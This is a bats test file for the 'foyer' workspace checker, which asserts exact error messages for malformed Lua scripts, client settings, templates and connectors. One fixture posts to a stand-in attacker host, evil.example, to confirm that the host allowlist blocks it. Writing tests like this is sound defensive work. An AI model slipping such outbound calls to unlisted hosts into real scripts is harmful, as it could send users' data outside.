#!/usr/bin/env bats
# foyer check and foyer render: every mistake with file and line, without a network, store or key.

bats_require_minimum_version 1.5.0
load helper

setup() {
  AGENCY=$BATS_TEST_TMPDIR/agency
  export HOME=$BATS_TEST_TMPDIR XDG_CONFIG_HOME=$BATS_TEST_TMPDIR/config
  unset FOYER_KEY_FILE
  mkdir -p "$AGENCY"
  put foyer.lua <<'LUA'
return {
  recipes = {},
}
LUA
  client acme
  client beta
}

teardown() {
  [ -z "${MOCK_PID:-}" ] || stop_mock
}

# put FILE: standard input into the workspace's FILE
put() {
  mkdir -p "$(dirname "$AGENCY/$1")"
  cat >"$AGENCY/$1"
}

client() {
  put "clients/$1/client.lua" <<LUA
return {
  name = "$1",
  front = {
    inboxes   = { support = "inb_1" },
    teammates = { leela = "tea_1" },
  },
  recipes = {
    ["first-reply"] = { author = "leela" },
  },
  vars = { phone = "+1 555 0100" },
  hosts = { "hooks.slack.com" },
}
LUA
}

check() {
  run --separate-stderr "$FOYER" -w "$AGENCY" check "$@"
}

# finds TEXT: check exits 65 and says exactly that
finds() {
  check
  [ "$status" = 65 ]
  diff -u <(printf '%s\n' "$@") <(printf '%s\n' "$output")
}

# stops CODE SENTENCE WORD...: foyer WORD... exits so and says exactly that
stops() {
  run --separate-stderr timeout 60 "$FOYER" -w "$AGENCY" "${@:3}"
  echo "$stderr"
  [ "$status" = "$1" ] && [ "$stderr" = "foyer: $2" ]
}

is_clean() {
  check
  echo "$output"
  [ "$status" = 0 ] && [ -z "$output" ]
}

# ---- the ten mistakes, each a function that makes it and the line that names it ----

recipe() { # recipe NAME LINE...: a recipe whose function says LINE...
  { printf 'return {\n  summary = "A test.",\n  run = function(ctx)\n'
    printf '    %s\n' "${@:2}"
    printf '  end,\n}\n'; } | put "$1"
}

mistake_syntax() {
  put recipes/broken.lua <<'LUA'
return {
  summary = "Broken.",
  run = function(ctx)
    ctx.log("hello"
  end,
}
LUA
}
says_syntax="recipes/broken.lua:5: syntax error: ')' expected (to close '(' at line 4) near 'end'"

mistake_unknown_key() {
  put lua/front/actions/shout.lua <<'LUA'
return {
  summary = "Shout.",
  effect = "read",
  inptu = {},
  run = function() end,
}
LUA
}
says_unknown_key='lua/front/actions/shout.lua:4: inptu: unknown key "inptu"; did you mean "input"?'

mistake_wrong_type() {
  put clients/acme/lua/front/actions/list-inboxes.lua <<'LUA'
-- only the limit
return super {
  input = {
    limit = { "integer", max = 50 },
  },
  scopes = "inboxes:read",
}
LUA
}
says_wrong_type='clients/acme/lua/front/actions/list-inboxes.lua:6: scopes: must be a list such as { "…" }, not text'

mistake_missing_field() {
  put lua/front/triggers/silence.lua <<'LUA'
-- a trigger
return {
  on = { "inbound" },
}
LUA
}
says_missing_field='lua/front/triggers/silence.lua:2: summary: is missing: when it fires, in one line: summary = "…"'

mistake_id_prefix() {
  sed -i 's/"inb_1"/"cha_1"/' "$AGENCY/clients/beta/client.lua"
}
says_id_prefix='clients/beta/client.lua:4: front.inboxes.support: must be an id that begins with "inb_", not "cha_1"'

mistake_unknown_recipe() {
  sed -i 's/\["first-reply"\]/["frist-reply"]/' "$AGENCY/clients/acme/client.lua"
}
says_unknown_recipe='clients/acme/client.lua:8: recipes.frist-reply: unknown recipe "frist-reply"; did you mean "first-reply"?'

mistake_unknown_action() {
  recipe recipes/inboxes.lua 'local a = 1' 'return pcall(ctx.call, "front/list-inboxen", { limit = a })'
}
says_unknown_action='recipes/inboxes.lua:5: unknown action "front/list-inboxen"; did you mean "front/list-inboxes"?'

mistake_template_variable() {
  put clients/beta/templates/first-reply.txt <<'TXT'
Hello,

about {{conversation.subjcet}}: call {{vars.phone}}.
TXT
}
says_template_variable="clients/beta/templates/first-reply.txt:3: unknown variable 'conversation.subjcet'; did you mean 'conversation.subject'?"

mistake_super() {
  put clients/acme/lua/front/actions/list-inbox.lua <<'LUA'
local limit = 10

return super {
  input = { limit = { default = limit } },
}
LUA
}
says_super='clients/acme/lua/front/actions/list-inbox.lua:3: super has nothing to change: no layer below has lua/front/actions/list-inbox.lua; did you mean to call this file "list-inboxes.lua"?'

mistake_host() {
  recipe clients/beta/recipes/post.lua 'ctx.http.post("https://hooks.slack.com/ok", {})' \
    'ctx.http.post("https://evil.example/x?" .. ctx.now(), { text = "hi" })'
}
says_host='clients/beta/recipes/post.lua:5: forbidden host "evil.example": it is not in `hosts` of client.lua; name it there if scripts may reach it'

@test "a workspace without mistakes, as init makes it and ours" {
  is_clean
  [[ $stderr == "no mistakes in "*" scripts and templates of 2 clients" ]]
  "$FOYER" init "$BATS_TEST_TMPDIR/fresh"
  "$FOYER" -w "$BATS_TEST_TMPDIR/fresh" check
}

@test "needs no key, no store, no network, and leaves nothing behind" {
  before=$(find "$AGENCY" | sort)
  is_clean
  [ "$(find "$AGENCY" | sort)" = "$before" ]
  [ ! -e "$XDG_CONFIG_HOME" ]
}

@test "each of the ten mistakes alone" {
  for kind in syntax unknown_key wrong_type missing_field id_prefix unknown_recipe unknown_action \
    template_variable super host; do
    rm -rf "$AGENCY"
    mkdir -p "$AGENCY"
    setup
    is_clean
    "mistake_$kind"
    said=says_$kind
    finds "${!said}"
    [[ $stderr == "1 mistake in "* ]]
  done
}

@test "all ten at once" {
  for kind in syntax unknown_key wrong_type missing_field id_prefix unknown_recipe unknown_action \
    template_variable super host; do
    "mistake_$kind"
  done
  finds "$says_unknown_recipe" "$says_super" "$says_wrong_type" "$says_id_prefix" "$says_host" \
    "$says_template_variable" "$says_unknown_key" "$says_missing_field" "$says_syntax" "$says_unknown_action"
  [[ $stderr == "10 mistakes in "* ]]
}

@test "--json is one document, and a client can be named" {
  mistake_super
  mistake_host
  run --separate-stderr "$FOYER" -w "$AGENCY" check beta --json
  [ "$status" = 65 ]
  [ "$(jq -c '[.clients, (.mistakes | map([.path, .line]))]' <<<"$output")" = \
    '[1,[["clients/beta/recipes/post.lua",5]]]' ]
  check gamma
  [ "$status" = 65 ]
  [[ $stderr == *'there is no client "gamma"'* ]]
}

@test "settings of a client that cannot be read are named, and the rest is still looked at" {
  printf 'return {\n  name = "beta",\n  vars = { phone = phone },\n}\n' | put clients/beta/client.lua
  mkdir -p "$AGENCY/clients/gamma"
  mistake_unknown_key
  finds 'clients/beta/client.lua:3: unknown name "phone": a settings file knows only secret "…" and env "…"; is a quote missing?' \
    'clients/gamma/client.lua:1: is missing: it makes the directory a client'"'"'s: return { name = "…" }' \
    "$says_unknown_key"
}

@test "a table without its = is a call, and said to lack it" {
  printf 'return {\n  name = "beta",\n  vars { phone = "1" },\n}\n' | put clients/beta/client.lua
  finds 'clients/beta/client.lua:3: unknown name "vars": is a = missing, as in vars = { … }?'
}

@test "a foyer.lua that cannot be read is named alone: others would follow from it" {
  client_in_group() { printf 'return { name = "%s", groups = { "retail" } }\n' "$1" | put "clients/$1/client.lua"; }
  client_in_group acme
  client_in_group beta
  mistake_unknown_key
  printf 'return {\n  recipes = {\n}\n' | put foyer.lua
  finds "foyer.lua:4: syntax error: '}' expected (to close '{' at line 1) near <eof>"
  [ "$stderr" = "foyer.lua cannot be read: nothing else was checked" ]
  check --json
  [ "$(jq -c '[.unread, (.mistakes | map(.path))]' <<<"$output")" = '[true,["foyer.lua"]]' ]
  # one that is read and has a mistake may lack the groups for it
  printf 'return { group = { retail = {} } }\n' | put foyer.lua
  check
  [ "$status" = 65 ]
  [[ $output == *'foyer.lua:1: group: unknown key "group"; did you mean "groups"?'* ]]
  [[ $output != *'has no group'* ]]
}

@test "a file that never ends, or fails, while it is loaded is named" {
  printf 'local n = 0 while true do n = n + 1 end\n' | put recipes/loop.lua
  printf 'return super { summary = "over a loop" }\n' | put clients/acme/recipes/loop.lua
  printf 'return {\n  summary = 1 .. nil,\n}\n' | put recipes/fails.lua
  printf 'local t = {}\nreturn t.x.y\n' | put lua/front/actions/index.lua
  printf 'x = 1\nreturn {}\n' | put lua/front/actions/global.lua
  printf '\n-- nothing\n' | put lua/front/actions/nothing.lua
  finds 'lua/front/actions/global.lua:1: cannot set the global "x": write "local x"' \
    'lua/front/actions/index.lua:2: attempt to index a nil value (field '"'x'"')' \
    'lua/front/actions/nothing.lua:1: returns a nil: a script returns one table, as in return { summary = …, run = … }' \
    'recipes/fails.lua:2: attempt to concatenate a nil value' \
    'recipes/loop.lua:1: cannot load it: the script ran 200 ms without waiting for anything (an endless loop?)'
}

@test "globals are found where nothing ran yet, and other languages' signs are named" {
  put lua/front/actions/globals.lua <<'LUA'
local M <const>, n = { null = 1, ["os"] = 2 }, 0
local function helper(first, ...)
  for i, value in ipairs({ ... }) do n = n + i .. value end
  goto done
  ::done::
  M.console, M.x = helper.print, function() local t = { y = 1 } t.y = first end
end
function M:method() self.n = n end
return {
  summary = "All kinds of names.", effect = "read",
  run = function(ctx, input)
    if input == null then helper(input) end
    ctx.log("warn", "a" .. nam)
    total = 1
    local rows = { map = function() count = 2 end }
    console.log(rows)
  end,
}
LUA
  printf 'return {\n  // no comment\n}\n' | put recipes/comment.lua
  printf 'local n = 0\nn += 1\n' | put recipes/plus.lua
  finds 'lua/front/actions/globals.lua:12: unknown name "null": use json.null, or nil' \
    'lua/front/actions/globals.lua:13: unknown name "nam": a misspelling, or a missing "local"?' \
    'lua/front/actions/globals.lua:14: cannot set the global "total": write "local total"' \
    'lua/front/actions/globals.lua:15: cannot set the global "count": write "local count"' \
    'lua/front/actions/globals.lua:16: unknown name "console": use ctx.log("warn", …)' \
    "recipes/comment.lua:2: syntax error: unexpected symbol near '//' (a comment begins with --)" \
    "recipes/plus.lua:2: syntax error near '+' (Lua has no += and ++: x = x + 1)"
}

@test "a FIFO or a link to nothing where a file belongs is named, and nothing waits for it" {
  mkdir -p "$AGENCY"/{recipes,templates,lua/crm,clients/{acme/recipes,delta,gamma}}
  mkfifo "$AGENCY/recipes/pipe.lua" "$AGENCY/templates/pipe.txt" "$AGENCY/clients/gamma/client.lua"
  # over a file of a lower layer, which must not take its place; also by an absolute name
  ln -s gone.lua "$AGENCY/clients/acme/recipes/first-reply.lua"
  ln -s "$AGENCY/gone.txt" "$AGENCY/templates/link.txt"
  ln -s gone.lua "$AGENCY/clients/acme/ids.lua"
  ln -s gone.lua "$AGENCY/clients/delta/client.lua"
  ln -s gone.lua "$AGENCY/lua/crm/connector.lua"
  # a process that has the FIFO open to write, and says nothing, would be waited for
  exec {keep}<>"$AGENCY/recipes/pipe.lua"
  finds 'clients/acme/ids.lua:1: it is a link to gone.lua, which does not exist' \
    'clients/acme/recipes/first-reply.lua:1: it is a link to gone.lua, which does not exist' \
    'clients/delta/client.lua:1: it is a link to gone.lua, which does not exist' \
    'clients/gamma/client.lua:1: it is a FIFO, not a file' \
    'lua/crm/connector.lua:1: it is a link to gone.lua, which does not exist' \
    'recipes/pipe.lua:1: it is a FIFO, not a file' \
    "templates/link.txt:1: it is a link to $AGENCY/gone.txt, which does not exist" \
    'templates/pipe.txt:1: it is a FIFO, not a file'
  exec {keep}>&-
}

@test "a run, and a command, say the same of a FIFO and of a link to nothing" {
  mkdir -p "$AGENCY"/{recipes,templates,clients/{delta,acme/recipes}}
  mkfifo "$AGENCY/recipes/pipe.lua" "$AGENCY/templates/pipe.txt"
  ln -s gone.lua "$AGENCY/clients/acme/recipes/first-reply.lua"
  ln -s gone.txt "$AGENCY/templates/link.txt"
  ln -s gone.lua "$AGENCY/clients/delta/client.lua"
  exec {keep}<>"$AGENCY/recipes/pipe.lua"
  stops 65 'client acme, recipe pipe: cannot read recipes/pipe.lua: it is a FIFO, not a file' run pipe --client acme
  stops 65 'client acme, recipe first-reply: cannot read clients/acme/recipes/first-reply.lua: it is a link to gone.lua, which does not exist' \
    run first-reply --client acme
  stops 65 'cannot read templates/pipe.txt: it is a FIFO, not a file' render pipe --client acme
  stops 65 'cannot read templates/link.txt: it is a link to gone.txt, which does not exist' render link --client acme
  stops 78 'cannot read clients/delta/client.lua: it is a link to gone.lua, which does not exist' render link --client delta
  exec {keep}>&-
  rm "$AGENCY/foyer.lua"
  mkfifo "$AGENCY/foyer.lua"
  stops 78 'cannot read foyer.lua: it is a FIFO, not a file' render link --client acme
}

# many N: clients of one pattern, c1 to cN, beside acme and beta
many() {
  mkdir -p "$AGENCY/clients/c1"
  client c1
  for ((i = 2; i <= $1; i++)); do
    cp -r "$AGENCY/clients/c1" "$AGENCY/clients/c$i"
  done
}

@test "a mistake of one among many clients is found, and a shared one is said once" {
  many 250
  is_clean
  recipe recipes/post.lua 'ctx.http.post("https://hooks.slack.com/ok", {})' \
    'ctx.call("front/send-conversation-reply", { conversation_id = "cnv_1", body = "a", author_id = "leela" })'
  echo 'Call {{vars.phone}}.' | put templates/first-reply.txt
  sed -i 's/recipes = {}/recipes = { post = true }/' "$AGENCY/foyer.lua"
  is_clean
  sed -i 's/"inb_1"/"cha_1"/' "$AGENCY/clients/c7/client.lua"
  sed -i 's/first-reply/frist-reply/' "$AGENCY/clients/c150/client.lua"
  sed -i 's/leela = "tea_1"/fry = "tea_1"/; s/author = "leela"/author = "fry"/' "$AGENCY/clients/c201/client.lua"
  sed -i '/hosts/d' "$AGENCY/clients/c202/client.lua"
  sed -i 's/phone/fax/' "$AGENCY/clients/c249/client.lua"
  mistake_template_variable
  mistake_syntax
  finds "$says_template_variable" \
    'clients/c150/client.lua:8: recipes.frist-reply: unknown recipe "frist-reply"; did you mean "first-reply"?' \
    'clients/c7/client.lua:4: front.inboxes.support: must be an id that begins with "inb_", not "cha_1"' \
    "$says_syntax" \
    'recipes/post.lua:4: forbidden host "hooks.slack.com": it is not in `hosts` of client.lua; name it there if scripts may reach it (client c202)' \
    'recipes/post.lua:5: front/send-conversation-reply.author_id: "leela" is not a teammate: neither an id ("tea_…"), an alias ("alt:…") nor a name in `front.teammates` of client.lua (client c201)' \
    "templates/first-reply.txt:1: unknown variable 'vars.phone' (client c249)"
  [[ $stderr == "7 mistakes in "*" scripts and templates of 252 clients" ]]
  # an action that acme alone has, in a recipe that all have on
  echo 'return { summary = "x", effect = "read", run = function() end }' | put clients/acme/lua/front/actions/own.lua
  recipe recipes/post.lua 'ctx.call("front/own")'
  check --json
  [ "$(jq -c '.mistakes[] | select(.path == "recipes/post.lua") | [.sentence, (.clients | length), (.clients | index("acme"))]' \
    <<<"$output")" = '["unknown action \"front/own\"; `foyer actions` lists what there is",251,null]' ]
}

@test "a file that takes long for each of many clients is checked for all" {
  many 120
  { for ((i = 0; i < 1500; i++)); do echo '{{client.name}}'; done; echo '{{vars.phone}}'; } | put templates/first-reply.txt
  is_clean
  sed -i 's/phone/fax/' "$AGENCY/clients/c99/client.lua"
  finds "templates/first-reply.txt:1501: unknown variable 'vars.phone' (client c99)"
}

@test "a client whose file cannot be read has no mistakes elsewhere for it" {
  rm -r "$AGENCY/clients/beta"
  printf 'return {\n  front = { inboxes = { support = "inb_1" } },\n}\n' | put clients/acme/ids.lua
  printf 'return {\n  name = "acme"\n  vars = {},\n}\n' | put clients/acme/client.lua
  echo 'Call {{vars.phone}}, {{client.name}}' | put clients/acme/templates/first-reply.txt
  finds "clients/acme/client.lua:3: syntax error: '}' expected (to close '{' at line 1) near 'vars'"
}

@test "an action without its app's directory is shown the way" {
  echo 'return {}' | put lua/actions/x.lua
  finds 'lua/actions/x.lua:1: nothing reads this file: did you mean lua/front/actions/x.lua?'
}

@test "files that nothing reads" {
  for file in clients/acme/lua/front/action/x.lua clients/acme/recipe/x.lua lua/frnt/actions/x.lua \
    lua/front/x.lua lua/x.lua lua/mock/main.lua recipes/more/x.lua 'recipes/a b.lua' templates/x.lua \
    clients/acme/front/actions/x.lua clients/acme/lua/front/connector.lua; do
    echo 'return {}' | put "$file"
  done
  echo hello | put templates/letters/hello.txt
  echo hello | put recipes/README.md
  check
  [ "$status" = 65 ]
  diff -u - <(cut -d: -f1-3 <<<"$output") <<'OUT'
clients/acme/front/actions/x.lua:1: nothing reads this file
clients/acme/lua/front/action/x.lua:1: nothing reads this file
clients/acme/lua/front/connector.lua:1: nothing reads this file
clients/acme/recipe/x.lua:1: nothing reads this file
lua/frnt/actions/x.lua:1: nothing reads this file
lua/front/x.lua:1: nothing reads this file
lua/mock/main.lua:1: nothing reads this file
lua/x.lua:1: nothing reads this file
recipes/a b.lua:1: nothing reads this file
recipes/more/x.lua:1: nothing reads this file
templates/x.lua:1: nothing reads this file
OUT
  [[ $output == *"did you mean lua/front/actions/x.lua?"* && $output == *"did you mean recipes/x.lua?"* ]]
}

@test "a recipe's options in client.lua" {
  put clients/acme/client.lua <<'LUA'
return {
  name = "acme",
  front = { teammates = { leela = "tea_1" } },
  recipes = {
    ["first-reply"] = {
      author   = "lela",
      template = "first-repyl",
      autor    = "leela",
    },
    digest = {
      cron  = "30 7 * * 1-5",
      hours = "four", limit = 200,
      conversation = "inb_1",
    },
  },
}
LUA
  finds 'clients/acme/client.lua:6: recipes.first-reply.author: "lela" is not a teammate: neither an id ("tea_…"), an alias ("alt:…") nor a name in `front.teammates` of client.lua; did you mean "leela"?' \
    'clients/acme/client.lua:7: recipes.first-reply.template: unknown template "first-repyl"; did you mean "first-reply"?' \
    'clients/acme/client.lua:8: recipes.first-reply.autor: unknown option "autor" of the recipe first-reply; did you mean "author"?' \
    'clients/acme/client.lua:12: recipes.digest.hours: "four" is not a number' \
    'clients/acme/client.lua:12: recipes.digest.limit: 200 is more than 100' \
    'clients/acme/client.lua:13: recipes.digest.conversation: "inb_1" is an inbox id; a conversation id starts with "cnv_"'
}

@test "a shared file counts for the clients that use it" {
  recipe recipes/chat.lua 'ctx.http.post("https://chat.example/x", {})' \
    'ctx.template("note", { count = 1 })'
  echo '{{vars.fax}} {{count}} {{conut}}' | put templates/note.md
  sed -i 's/recipes = {/&\n    chat = true,/; s/phone =/fax = "1", phone =/; s/"hooks.slack.com"/"chat.example"/' \
    "$AGENCY/clients/acme/client.lua"
  finds "templates/note.md:1: unknown variable 'conut'; did you mean 'count'?"
  sed -i 's/recipes = {/&\n    chat = true,/' "$AGENCY/clients/beta/client.lua"
  finds 'recipes/chat.lua:4: forbidden host "chat.example": it is not in `hosts` of client.lua; name it there if scripts may reach it (client beta)' \
    "templates/note.md:1: unknown variable 'conut'; did you mean 'count'?" \
    "templates/note.md:1: unknown variable 'vars.fax' (client beta)"
  check acme
  [ "$(wc -l <<<"$output")" = 1 ]
}

@test "templates, triggers and fields" {
  printf 'Hi\n{{#conversation}}\n{{>footer}}\n{{>foter}}\n' | put templates/first-reply.txt
  printf '{{subject}}\n{{subjct}}\n' | put templates/footer.txt
  printf '{{#a}}\n' | put templates/open.html
  put lua/front/triggers/late.lua <<'LUA'
return {
  summary = "Late.",
  on      = { "inbound", 2 },
  needs   = { "payload.conversation", "payload.nothing" },
  sample  = "samples/conversation-assigned.json",
}
LUA
  put lua/front/actions/odd.lua <<'LUA'
return {
  summary = "Odd.", effect = "writes",
  input = {
    a = { "strin" },
    b = { "integer", enum = { 1 } },
    c = { enum = { "x", "y" }, default = "z" },
    d = { list = { "integer", mim = 1 } },
    e = "string",
    f = {},
  },
  run = function(ctx) ctx.template("nothing", {}) end,
}
LUA
  put recipes/odd.lua <<'LUA'
return {
  summary = "Odd.", on = "front/late-", cron = "61 * * * *",
  retry = { attempts = "many", give_up = "soon" },
  options = { t = { "template", default = "non" } },
  run = 1,
}
LUA
  finds 'lua/front/actions/odd.lua:2: effect: must be "read", "write" or "idempotent", not "writes"' \
    'lua/front/actions/odd.lua:4: input.a: unknown type "strin"; did you mean "string"?' \
    'lua/front/actions/odd.lua:5: input.b: has several types: a field has one, either a word such as "string", or enum =, list = or object =' \
    'lua/front/actions/odd.lua:6: input.c.default: "z" is not one of x, y' \
    'lua/front/actions/odd.lua:7: input.d.list.mim: unknown key "mim"; did you mean "min"?' \
    'lua/front/actions/odd.lua:8: input.e: must be a table such as { "string", required = true }, not text' \
    'lua/front/actions/odd.lua:9: input.f: has no type: a field has one, either a word such as "string", or enum =, list = or object =' \
    'lua/front/actions/odd.lua:11: unknown template "nothing"; make it as templates/nothing.txt, .html or .md' \
    'lua/front/triggers/late.lua:3: on[2]: must be text, not a number' \
    'lua/front/triggers/late.lua:4: needs[2]: "payload.nothing" is not in the sample samples/conversation-assigned.json' \
    'recipes/odd.lua:2: cron: cannot read the cron times "61 * * * *": the minute "61" is out of range' \
    'recipes/odd.lua:2: on: unknown trigger "front/late-"; did you mean "front/late"?' \
    'recipes/odd.lua:3: retry.attempts: must be a whole number, not text' \
    'recipes/odd.lua:3: retry.give_up: "soon" is not a duration; write "90s", "15m", "2h" or "3d"' \
    'recipes/odd.lua:4: options.t.default: unknown template "non"; make it as templates/non.txt, .html or .md' \
    'recipes/odd.lua:5: run: must be a function, not a number' \
    "templates/first-reply.txt:4: syntax error: unclosed section 'conversation' opened at line 2" \
    "templates/open.html:1: syntax error: unclosed section 'a' opened at line 1"
}

@test "partials are looked at where they are included" {
  printf '{{#conversation}}\n{{>footer}}\n{{>foter}}\n{{/conversation}}\n' | put templates/first-reply.txt
  printf '{{subject}}\n{{subjct}}\n' | put templates/footer.txt
  finds "templates/first-reply.txt:3: there is no template 'foter' to include" \
    "templates/footer.txt:2: unknown variable 'subjct'; did you mean 'subject'?"
}

@test "what a recipe passes to a template is known, and data from elsewhere may hold anything" {
  printf '{{count}} {{things.name}} {{whatever}}\n' | put templates/list.md
  recipe recipes/list.lua 'local f = function() return 1, { hidden = 2 } end' \
    'return ctx.template("list", { count = f(1, 2), ["things"] = { { name = "a" } } })'
  finds "templates/list.md:1: unknown variable 'whatever'"
  recipe recipes/list.lua 'local data = {}' 'return ctx.template("list", data)'
  is_clean
}

# notes TEXT...: check exits 0, counts no mistake, and says exactly these notes
notes() {
  check
  [ "$status" = 0 ]
  [[ $stderr == "no mistakes in "* ]]
  diff -u <(printf '%s\n' "$@") <(printf '%s\n' "$output")
}

@test "a variable that an override may add is a note; without an override it is a mistake" {
  printf '{{conversation.order}}\n{{#conversation}}{{parcel}}{{/conversation}}\n' | put clients/acme/templates/first-reply.txt
  local order="clients/acme/templates/first-reply.txt:1: unknown variable 'conversation.order'"
  local parcel="clients/acme/templates/first-reply.txt:2: unknown variable 'parcel'"
  finds "$order" "$parcel"

  # an override of the recipe
  put clients/acme/recipes/first-reply.lua <<'LUA'
return super {
  run = function(ctx, event, super)
    event.payload.conversation.order = "A 1"
    return super(ctx, event)
  end,
}
LUA
  order="${order/: unk/: note: unk}, unless clients/acme/recipes/first-reply.lua gives it"
  parcel="${parcel/: unk/: note: unk}, unless clients/acme/recipes/first-reply.lua gives it"
  notes "$order" "$parcel"
  check --json
  [ "$status" = 0 ]
  [ "$(jq -c '[.mistakes, [.notes[] | [.path, .line]]]' <<<"$output")" = \
    '[[],[["clients/acme/templates/first-reply.txt",1],["clients/acme/templates/first-reply.txt",2]]]' ]

  # no override adds to the settings, nor a name of its own; beta has none, and a mistake hides no note
  printf '{{vars.fax}} {{orderno}}\n{{conversation.order}}\n' | put clients/acme/templates/first-reply.txt
  mistake_template_variable
  finds "clients/acme/templates/first-reply.txt:1: unknown variable 'orderno'" \
    "clients/acme/templates/first-reply.txt:1: unknown variable 'vars.fax'" "$says_template_variable" "${order/:1:/:2:}"
}

@test "an own recipe may add to what a template gets; an override that writes adds nothing" {
  echo '{{conversation.order}}' | put templates/parcel.md
  local unknown="unknown variable 'conversation.order'"
  recipe recipes/parcel.lua 'local c = ctx.call("front/get-conversation", { conversation_id = "cnv_1" })' \
    'c.order = 1' 'return ctx.template("parcel", { conversation = c })'
  notes "templates/parcel.md:1: note: $unknown, unless recipes/parcel.lua gives it"
  rm "$AGENCY/recipes/parcel.lua" "$AGENCY/templates/parcel.md"

  # what is only written with adds nothing
  echo '{{conversation.order}}' | put templates/first-reply.txt
  echo 'return super { summary = "Ours." }' | put lua/front/actions/send-conversation-reply.lua
  finds "templates/first-reply.txt:1: $unknown"
}

@test "addresses in all the ways to write them" {
  put lua/front/actions/ask.lua <<'LUA'
return {
  summary = "Ask.", effect = "read",
  run = function(ctx)
    ctx.http.get("https://api2.frontapp.com/me")
    ctx.http.get("https://x.api.frontapp.com/me")
    ctx.http.get("https://hooks.slack.com:443/me")
    ctx.http.get("https://" .. ctx.vars.host .. "/me")
    ctx.http.get("https://a." .. ctx.vars.host)
    pcall(ctx.http.get, "https://one.example/")
    ctx.http.request { method = "GET", url = "https://two.example" }
    ctx.http.page("http://hooks.slack.com/")
    ctx.http.head("https://user@hooks.slack.com/")
    -- ctx.http.get("https://comment.example/")
  end,
}
LUA
  recipe recipes/ask.lua 'ctx.http.get("https://api2.frontapp.com/me", { connection = "front" })' \
    'ctx.http.get("https://api2.frontapp.com/me")'
  check
  [ "$status" = 65 ]
  diff -u - <(sed 's/; name it there.*//' <<<"$output") <<'OUT'
lua/front/actions/ask.lua:9: forbidden host "one.example": it is neither the connection's nor in `hosts` of client.lua
lua/front/actions/ask.lua:10: forbidden host "two.example": it is neither the connection's nor in `hosts` of client.lua
lua/front/actions/ask.lua:11: forbidden address "http://hooks.slack.com/": only https is allowed here
lua/front/actions/ask.lua:12: cannot use the URL https://user@hooks.slack.com/: its host is malformed
recipes/ask.lua:5: forbidden host "api2.frontapp.com": it is the app front's: add connection = "front" to the call's options
OUT
}

@test "a connector is the workspace's, and its mistakes hide no others" {
  put lua/front/connector.lua <<'LUA'
return {
  name = "Front",
  api = { base = "https://api2.frontapp.com" },
  pagign = {}, paging = { results = "r", nxt = "n" },
  ids = { inbox = { prefix = 1 } },
}
LUA
  put lua/crm/connector.lua <<'LUA'
return {
  name = "CRM",
  api = { base = "https://crm.example", hosts = { "crm.example" } },
  ids = { deal = { prefix = "deal_" } },
}
LUA
  put lua/crm/actions/get-deal.lua <<'LUA'
return {
  summary = "A deal.", effect = "read",
  input = { deal_id = { "deal", required = true } },
  run = function(ctx, input) return ctx.http.get("/deals/" .. input.deal_id) end,
}
LUA
  finds 'lua/front/connector.lua:3: api.hosts: is missing' \
    'lua/front/connector.lua:4: pagign: unknown key "pagign"; did you mean "paging"?' \
    'lua/front/connector.lua:4: paging.next: is missing' \
    'lua/front/connector.lua:4: paging.nxt: unknown key "nxt"; did you mean "next"?' \
    'lua/front/connector.lua:5: ids.inbox.prefix: must be text, not a number'
}

@test "what a connector says of webhooks" {
  put lua/crm/connector.lua <<'LUA'
return {
  name = "CRM",
  api = { base = "https://crm.example", hosts = { "crm.example" } },
  webhooks = {
    signature = "X Signature",
    challenge = { header = "X-Challenge" },
    event = { typ = "payload.type" },
    schemes = {
      a = { mac = "hmac-md5", over = "{timestamp}", key = "signing-key" },
      b = { when = "X-Time", mac = "hmac-sha1", over = "{body}", unit = "us", key = "rule_key" },
      c = { when = "X-Time", mac = "hmac-sha256", over = "{timestamp}{body}", unit = "s", window = 0, key = "rule_key" },
    },
    channel = { type = "type", conversation = { "a", "b", "c", "d", "e" }, answers = { message = { id = 1 } } },
  },
}
LUA
  check
  [ "$status" = 65 ]
  diff -u - <(sort <<<"$output") <<'OUT'
lua/crm/connector.lua:10: webhooks.schemes.b.over: must contain {timestamp}: else an attacker could change the time
lua/crm/connector.lua:10: webhooks.schemes.b.unit: must be "ms" or "s", not "us"
lua/crm/connector.lua:10: webhooks.schemes.b.window: is missing: `when` names a time
lua/crm/connector.lua:11: webhooks.schemes.c.window: must be a number of seconds, from 1 to 86400
lua/crm/connector.lua:13: webhooks.channel.answers.message.id: must be text, not a number
lua/crm/connector.lua:13: webhooks.channel.conversation: must be at most 4 paths
lua/crm/connector.lua:5: webhooks.signature: must be a header's name, not "X Signature"
lua/crm/connector.lua:6: webhooks.challenge.answer: is missing
lua/crm/connector.lua:7: webhooks.event.typ: unknown key "typ"; did you mean "type"?
lua/crm/connector.lua:9: webhooks.schemes.a.key: must be "signing_key", "rule_key" or "client_secret", not "signing-key"
lua/crm/connector.lua:9: webhooks.schemes.a.mac: must be "hmac-sha256" or "hmac-sha1", not "hmac-md5"
lua/crm/connector.lua:9: webhooks.schemes.a.over: cannot contain {timestamp} without `when`
lua/crm/connector.lua:9: webhooks.schemes.a.over: must contain {body}: else any body would do
OUT
}

@test "what a script passes to an action" {
  recipe recipes/pass.lua 'ctx.call("front/get-conversation", { conversation_id = "inb_1" })' \
    'ctx.call("front/send-conversation-reply", { conversation_id = ctx.vars.x, boddy = "hi" })' \
    'ctx.each("front/list-conversations", { limit = 1000; statuses = ctx.vars.y }, {}, function() end)' \
    'ctx.call("front/send-conversation-reply", { conversation_id = "cnv_1", body = "a", author_id = "leela" })' \
    'ctx.call("front/send-conversation-reply", { [ctx.vars.k] = 1, author_id = "fry" })' \
    'ctx.call("front/get-conversation", ctx.vars)'
  finds 'recipes/pass.lua:4: front/get-conversation.conversation_id: "inb_1" is an inbox id; a conversation id starts with "cnv_"' \
    'recipes/pass.lua:5: front/send-conversation-reply: "body" is missing (string)' \
    'recipes/pass.lua:5: front/send-conversation-reply: unknown key "boddy"; did you mean "body"?' \
    'recipes/pass.lua:6: front/list-conversations.limit: 1000 is more than 100' \
    'recipes/pass.lua:8: front/send-conversation-reply.author_id: "fry" is not a teammate: neither an id ("tea_…"), an alias ("alt:…") nor a name in `front.teammates` of client.lua'
}

@test "options that a recipe needs when it runs by itself" {
  put recipes/daily.lua <<'LUA'
return {
  summary = "Daily.",
  options = { to = { "string", required = true } },
  run = function() end,
}
LUA
  sed -i 's/recipes = {/&\n    daily = true,/' "$AGENCY/clients/beta/client.lua"
  is_clean # by hand
  sed -i 's/recipes = {}/recipes = { daily = { cron = "0 7 * * *" } }/' "$AGENCY/foyer.lua"
  finds 'clients/beta/client.lua:8: recipes.daily: the option "to" is missing (string)' \
    'foyer.lua:2: recipes.daily: the option "to" is missing (string) (client acme)'
}

@test "settings of wrong types are lent to the rest of the check" {
